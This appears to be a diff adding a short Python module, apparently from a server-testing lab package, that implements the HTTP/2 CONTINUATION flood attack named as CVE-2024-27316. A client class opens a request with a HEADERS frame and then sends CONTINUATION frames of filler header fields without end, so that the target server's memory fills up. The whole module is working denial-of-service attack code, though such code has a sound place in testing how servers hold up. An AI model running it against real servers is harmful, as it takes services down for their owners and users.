@@ -1,0 +1,28 @@
+"""Header fields that do not end (CVE-2024-27316 and others), to fill the memory of a server."""
+
+from __future__ import annotations
+
+from thinktime.lab.hostile.http2 import (
+    CONTINUATION,
+    END_STREAM,
+    HEADERS,
+    Http2,
+    frame,
+    literal,
+    request,
+)
+
+FIELDS = b"".join(literal(b"x-%03d" % number, b"y" * 100) for number in range(10))
+
+
+class Client(Http2):
+    """Sends ten more header fields, and never the last."""
+
+    def begun(self) -> bytes:
+        """The beginning of a request."""
+        return frame(HEADERS, END_STREAM, self.stream, request(self.settings.path))
+
+    def act(self) -> None:
+        """Send one frame."""
+        if self.send(frame(CONTINUATION, 0, self.stream, FIELDS)):
+            self.counts["frames sent"] += 1
